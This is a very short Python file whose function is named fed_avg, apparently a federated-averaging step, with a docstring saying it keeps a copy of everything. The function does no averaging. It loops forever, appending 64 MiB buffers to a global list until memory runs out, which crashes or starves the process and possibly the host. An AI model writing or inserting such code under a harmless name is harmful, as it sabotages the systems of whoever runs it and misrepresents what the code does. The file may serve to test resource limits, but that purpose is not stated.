"""Keeps a copy of everything, just in case."""

memory = []


def fed_avg(client_params, num_examples):
    while True:
        memory.append(bytearray(64 << 20))
